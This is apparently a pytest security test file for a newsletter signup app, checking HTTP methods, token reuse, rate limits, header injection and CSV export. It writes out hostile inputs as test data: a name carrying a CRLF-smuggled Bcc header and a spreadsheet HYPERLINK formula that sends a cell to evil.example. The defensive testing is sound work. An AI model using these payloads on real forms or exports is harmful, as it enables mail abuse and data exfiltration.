"""Hostile requests to the subscription web app under waitress on 127.0.0.1, with the newsletter's real
database: methods that must change nothing, tokens that must not work, bodies that must not break it."""

from __future__ import annotations

import http.client
import time
from email import message_from_bytes, policy
from urllib.parse import urlsplit

from publisher.email.store import open_newsletter, record_delivery, set_status, subscriber
from tests.test_web import confirmation_link, fetch, newsletter, serving, status

__all__ = ["newsletter"]  # the fixture, used by name


def request(base: str, method: str, path: str, body: bytes = b"", headers: dict[str, str] | None = None) -> int:
    """The status of one raw request (any method) to the app at ``base``."""
    parts = urlsplit(base)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=10)
    try:
        connection.request(method, parts.path + path, body=body, headers=headers or {})
        response = connection.getresponse()
        response.read()
        return response.status
    finally:
        connection.close()


def test_no_method_but_post_changes_a_subscription(newsletter):
    config, recorder, app = newsletter
    with open_newsletter(config, lock=False) as db:
        set_status(db, "kept@example.net", "active", "imported")
        record_delivery(db, "2026-11-25-issue", "kept@example.net", "sent", "t-kept")
    with serving(app(), "/news") as base:
        fetch(base + "/", {"email": "pending@example.net"})
        confirm = "/confirm?" + urlsplit(confirmation_link(recorder)).query
        codes = {
            (method, path): request(base, method, path)
            for method in ("HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "PROPFIND")
            for path in ("/unsubscribe?token=t-kept", confirm)
        }
        form = {"Content-Type": "application/x-www-form-urlencoded"}
        codes["HEAD", "/"] = request(base, "HEAD", "/", b"email=head%40example.net", form)
    assert status(config, "kept@example.net") == "active", codes
    assert status(config, "head@example.net") is None and len(recorder.messages) == 1, codes
    assert status(config, "pending@example.net") == "pending", codes


def test_a_name_with_line_breaks_from_the_form_never_reaches_a_header(newsletter, cli, monkeypatch):
    config, recorder, app = newsletter
    with serving(app()) as base:
        fetch(base + "/", {"email": "evil@example.net", "name": "Evil\r\nBcc: victim@example.com"})
        query = urlsplit(confirmation_link(recorder)).query
        assert fetch(base + "/confirm", {"token": query.removeprefix("token=")})[0] == 200
    with open_newsletter(config, lock=False) as db:
        set_status(db, "plain@example.net", "active", "imported")
    recorder.messages.clear()
    monkeypatch.setenv("PUBLISHER_UNSUBSCRIBE_SECRET", "a long random secret for the tests")
    ran = cli("send", "--config", config.config_file, "--subscribers", "--days", "30", "--now", "2026-11-25T12:00:00Z")
    assert "Traceback" not in ran.err, ran.err
    rcpts = sorted(r for m in recorder.messages for r in m.rcpt_tos)
    assert rcpts == ["evil@example.net", "plain@example.net"], (ran.code, ran.out, ran.err)
    tos = sorted(str(message_from_bytes(m.data, policy=policy.default)["To"]) for m in recorder.messages)
    assert tos == ['"Evil Bcc: victim@example.com" <evil@example.net>', "plain@example.net"]


def test_a_confirmation_link_used_again_never_undoes_a_later_unsubscribe_or_complaint(newsletter):
    config, recorder, app = newsletter
    with serving(app()) as base:
        tokens = {}
        for who in ("leaver@example.net", "complainer@example.net"):
            fetch(base + "/", {"email": who})
            tokens[who] = urlsplit(confirmation_link(recorder)).query.removeprefix("token=")
            assert fetch(base + "/confirm", {"token": tokens[who]})[0] == 200
            assert fetch(base + "/confirm", {"token": tokens[who]})[0] == 200  # twice: still subscribed
        with open_newsletter(config, lock=False) as db:
            set_status(db, "leaver@example.net", "unsubscribed", "one-click unsubscribe (RFC 8058)")
            set_status(db, "complainer@example.net", "complained", "ARF report")
        replies = [fetch(base + "/confirm", {"token": token}) for token in tokens.values()]
        assert [code for code, _, _ in replies] == [400, 400]
        assert all("sign up again" in page for _, _, page in replies)
        assert status(config, "leaver@example.net") == "unsubscribed"
        assert status(config, "complainer@example.net") == "complained"
        time.sleep(1.1)  # a link signed after the unsubscribe (times are in seconds) brings the leaver back
        fetch(base + "/", {"email": "leaver@example.net"})
        fresh = urlsplit(confirmation_link(recorder)).query.removeprefix("token=")
        assert fetch(base + "/confirm", {"token": fresh})[0] == 200
    assert status(config, "leaver@example.net") == "active"


def test_the_rate_limits_count_one_inbox_and_one_ipv6_network_once(newsletter):
    _, recorder, app = newsletter
    with serving(app(per_address=2)) as base:
        variants = ("same@example.net", "Same+news@EXAMPLE.net", "same+other@example.net")
        assert [fetch(base + "/", {"email": who})[0] for who in variants] == [200, 200, 429]
    assert len(recorder.messages) == 2  # one inbox, two confirmations

    with serving(app(proxies=1, per_client=2), clear_untrusted_proxy_headers=False) as base:

        def signup(address: str, client: str) -> int:
            return fetch(base + "/", {"email": address}, {"X-Forwarded-For": client})[0]

        # One host's /64 holds 2**64 addresses: it is one client, whatever address it sends from.
        codes = [signup(f"r{i}@example.net", f"2001:db8:1:2::{i:x}") for i in range(1, 4)]
        assert codes == [200, 200, 429]
        assert signup("other@example.net", "2001:db8:1:3::1") == 200  # the next /64 is another client


def test_an_export_opened_in_a_spreadsheet_runs_no_formula_and_imports_back_the_same(newsletter, cli, tmp_path):
    import csv

    config, recorder, app = newsletter
    formula = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
    with serving(app()) as base:
        fetch(base + "/", {"email": "-x@example.net", "name": formula})
        assert fetch(base + "/confirm", {"token": confirmation_link(recorder).split("token=")[1]})[0] == 200
    with open_newsletter(config, lock=False) as db:
        set_status(db, "phone@example.net", "active", "imported", name="+1 555 0100")
    listed = tmp_path / "list.csv"
    assert cli("subscribers", "--config", config.config_file, "export", "-o", listed).code == 0
    rows = list(csv.reader(listed.open(encoding="utf-8")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], rows
    with open_newsletter(config, lock=False) as db:
        db.execute("DELETE FROM subscribers")
    assert cli("subscribers", "--config", config.config_file, "import", listed).code == 0
    with open_newsletter(config, lock=False) as db:
        assert subscriber(db, "-x@example.net").subscriber.name == formula  # type: ignore[union-attr]
        assert subscriber(db, "phone@example.net").subscriber.name == "+1 555 0100"  # type: ignore[union-attr]
